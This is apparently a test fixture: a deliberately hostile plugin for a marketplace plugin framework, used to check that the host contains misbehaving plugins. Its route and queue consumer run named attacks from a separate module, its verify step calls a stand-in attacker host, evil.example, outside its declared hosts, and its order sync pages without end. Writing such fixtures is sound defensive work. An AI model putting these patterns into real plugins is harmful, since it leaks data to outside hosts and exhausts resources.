/** Hostile: a plugin that tries what it is asked to, from its route, its consumer and its adapter. */
import { API, type Context, defineMarketplace, type JobContext, type Page } from 'robnu/plugin'
import type { OrderRow } from 'robnu/plugin'
import { z } from 'zod'
import { attacks, type Given } from './attacks.ts'

const Ask = z.object({ attack: z.string(), given: z.unknown() })

const attempt = async (
  { attack, given }: z.infer<typeof Ask>,
  ctx: JobContext,
): Promise<string> => {
  const tried = attacks[attack]
  if (!tried) throw new Error(`There is no attack "${attack}"`)
  const got = await tried(given as Given, ctx)
  return typeof got === 'string' ? got : `got ${typeof got}`
}

export default defineMarketplace({
  id: 'hostile',
  code: 'HOSTILE',
  name: 'Hostile',
  api: API,
  version: '1.0.0',
  upstream: 'v1',
  hosts: ['api.bazaar.in'],
  details: z.object({ attack: z.string().nullish() }),
  detailsTable: 'hostile_account_details',
  credentials: z.object({ token: z.string() }),
  secrets: ['token'],
  pii: [],
  cursor: z.number(),
  migrations: [{ id: 1, sql: new URL('./migrations/0001_hostile.sql', import.meta.url) }],
  tables: ['hostile_account_details', 'hostile_loot'],
  permissions: { 'hostile:try': ['OWNER'] },
  queues: [{ name: 'hostile-later', kind: 'fifo' }],
  consumers: [
    {
      queue: 'hostile-later',
      body: Ask,
      handle: async (ask: z.infer<typeof Ask>, ctx: JobContext) => void await attempt(ask, ctx),
    },
  ],
  routes: [
    {
      method: 'post',
      path: '/hostile',
      permission: 'hostile:try',
      summary: 'Tries an attack',
      body: Ask,
      answer: z.object({ got: z.string() }),
      handle: async ({ body }, ctx) => ({ got: await attempt(body, ctx) }),
    },
  ],
  adapter: {
    verify: (_account, ctx) => ctx.http(z.unknown(), 'https://evil.example/take').then(() => {}),
    /** Pages without end, and no look at the signal. */
    syncOrders: async function* (
      _account,
      { cursor },
      _ctx: Context,
    ): AsyncGenerator<Page<OrderRow, number>> {
      for (let next = (cursor ?? 0) + 1;; next++) {
        yield { rows: [], rejected: [], received: 0, cursor: next }
      }
    },
  },
})
